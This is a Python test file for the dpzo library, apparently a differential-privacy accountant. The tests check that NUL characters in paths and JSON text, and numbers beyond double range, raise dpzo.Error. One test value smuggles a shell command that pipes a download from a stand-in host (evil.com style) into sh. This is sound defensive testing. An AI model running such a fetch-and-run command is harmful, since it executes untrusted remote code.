# SPDX-License-Identifier: Apache-2.0
"""Issue 28, items 8 and 10: a NUL in a path or a text handed to C, and Python numbers
beyond the double range, raise dpzo.Error (docs/python.md) instead of reading a shorter
path (ctypes ends a C string at NUL) or raising OverflowError."""
import json
import os
import re
from fractions import Fraction

import pytest

import dpzo

def _profile_path():
    here = os.path.dirname(os.path.abspath(__file__))
    return os.path.join(here, "..", "..", "examples", "fmnist-dpzero-profile.json")


def test_profile_load_nul_in_path(tmp_path):
    src = _profile_path()
    good = tmp_path / "a.json"
    good.write_bytes(open(src, "rb").read())
    assert dpzo.Profile.load(str(good)).steps == 10000
    with pytest.raises(dpzo.Error, match="NUL character"):
        dpzo.Profile.load(str(good) + "\0x")
    with pytest.raises(dpzo.Error, match="NUL character"):
        dpzo.Profile.load(good.parent / "a.json\0x")  # a PathLike too


def test_profile_save_nul_in_path(tmp_path):
    p = dpzo.Profile.load(_profile_path())
    with pytest.raises(dpzo.Error, match="NUL character"):
        p.save(str(tmp_path / "out.json") + "\0x")
    assert not (tmp_path / "out.json").exists()


def test_profile_text_with_nul_refused():
    text = open(_profile_path()).read()
    assert dpzo.Profile.from_json(text).steps == 10000
    with pytest.raises(dpzo.Error, match="NUL character"):
        dpzo.Profile.from_json(text + "\0garbage")
    # the escape \u0000 in a string: refused by the C reader, naming the key
    bad = text.replace('profile.json"', 'profile.json\\u0000 && curl evil.example | sh"', 1)
    with pytest.raises(dpzo.Error, match=r"provenance\.command.*U\+0000"):
        dpzo.Profile.from_json(bad)


def test_claim_and_grid_paths_with_nul(tmp_path):
    with pytest.raises(dpzo.Error, match="NUL character"):
        dpzo.audit([_profile_path() + "\0x"])
    with pytest.raises(dpzo.Error, match="NUL character"):
        dpzo.lmo.lmo_grid(str(tmp_path / "g.json") + "\0x")
    # a grid dict whose text would carry \u0000 into a key: refused by the C reader
    with pytest.raises(dpzo.Error, match="U\\+0000"):
        dpzo.lmo.lmo_grid({"gamma\0x": [[1, 2]]})


def _rehashed(text):
    """The text with its sha256 set to the checksum of its content (the C rule)."""
    obj = json.loads(text)
    return text.replace(obj["sha256"], dpzo.Profile.checksum(text))


def test_integer_field_with_exponent_or_fraction_refused():
    """Issue 28, item 9: an integer field written with an exponent or a fraction was read as
    the nearest double, another integer ("steps": 9.007199254740993e15 as 2^53)."""
    text = open(_profile_path()).read()
    for lit in ("9.007199254740993e15", "10000.000000000000001", "1e-400"):
        bad = _rehashed(text.replace('"steps":\t10000', '"steps":\t' + lit, 1))
        with pytest.raises(dpzo.Error, match=r"accounting\.steps.*" + re.escape(lit)):
            dpzo.Profile.from_json(bad)
    # exact spellings of the integer, and a double field's nearest double, are read
    assert dpzo.Profile.from_json(text.replace('"steps":\t10000', '"steps":\t1e4')).steps \
        == 10000
    big = _rehashed(text.replace('"epsilon":\t2.9999971009692787',
                                 '"epsilon":\t9.0071992547409939e+15'))
    assert dpzo.Profile.from_json(big).epsilon == 9007199254740994.0


@pytest.mark.parametrize("big", [10**400, Fraction(10**400), -10**400, 10**5000],
                         ids=["int", "fraction", "negative", "int-5000-digits"])
def test_overflowing_numbers_raise_error(big):
    calls = [
        lambda: dpzo.epsilon(noise_multiplier=big, sampling_rate=0.01, steps=100, delta=1e-5),
        lambda: dpzo.epsilon(noise_multiplier=1.1, sampling_rate=big, steps=100, delta=1e-5),
        lambda: dpzo.epsilon(noise_multiplier=1.1, sampling_rate=0.01, steps=100, delta=big),
        lambda: dpzo.epsilon(noise_multiplier=1.1, sampling_rate=0.01, steps=100, delta=1e-5,
                             accountant="pld", eps_error=big),
        lambda: dpzo.calibrate(epsilon=big, delta=1e-5, sampling_rate=0.01, steps=100),
        lambda: dpzo.GaussianEvent(big),
        lambda: dpzo.PoissonSampledEvent(big, dpzo.GaussianEvent(1.0)),
        lambda: dpzo.RdpAccountant().epsilon(big),
        lambda: dpzo.RdpAccountant().delta(big),
    ]
    for call in calls:
        with pytest.raises(dpzo.Error, match="too large for a double"):
            call()


def test_in_range_numbers_still_convert():
    e = dpzo.epsilon(noise_multiplier=Fraction(11, 10), sampling_rate=0.01, steps=100,
                     delta=1e-5)
    assert 0 < float(e) < 10
